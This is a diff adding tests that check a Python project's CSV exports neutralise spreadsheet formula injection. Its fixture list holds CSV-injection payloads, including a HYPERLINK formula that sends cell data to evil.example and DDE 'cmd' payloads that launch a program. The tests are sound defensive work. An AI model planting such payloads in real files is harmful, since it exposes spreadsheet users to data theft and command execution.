@@ -241,3 +241,54 @@ def test_every_command_checks_its_output_files_before_it_runs(command, tmp_path,
             assert code == 2, (command, option, path, err)
             assert err.startswith(f"error: {option}") and reason in err and len(err.strip().splitlines()) == 1, err
     assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing written, no probe left behind
+
+
+# --- CSV exports ------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A2)",
+            "'=already quoted", "''+two apostrophes"]
+
+
+def _cells(text: str) -> list:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_the_results_csv_neutralises_formulas():
+    from test_charts_report import paper_like_result
+
+    from dowsing import report
+
+    result = paper_like_result()
+    for d, name in zip(result.domains, FORMULAS):
+        d.name = name
+    cells = _cells(report.to_csv(result))
+    for name in FORMULAS[:4]:
+        assert "'" + name in cells and name not in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+
+
+def test_the_plan_csv_neutralises_formulas():
+    from test_charts_report import _measured_plan
+
+    from dowsing.plan import plan_csv
+
+    plan, _ = _measured_plan()
+    plan.domains[0]["domain"] = FORMULAS[0]
+    plan.domains[1]["domain"] = FORMULAS[3]
+    cells = _cells(plan_csv(plan))
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+
+
+def test_the_domains_csv_neutralises_formulas_and_reads_back_the_same_facts():
+    from dowsing.domains import Domain, domains_to_csv, parse_domains_csv
+
+    domains = [Domain("=cmd|' /C calc'!A0", tuple(FORMULAS[:3])),
+               Domain("Plain", (FORMULAS[3], FORMULAS[4], FORMULAS[5], "'a quoted fact", "An ordinary fact."))]
+    text = domains_to_csv(domains)
+    cells = _cells(text)
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    assert parse_domains_csv(text) == domains
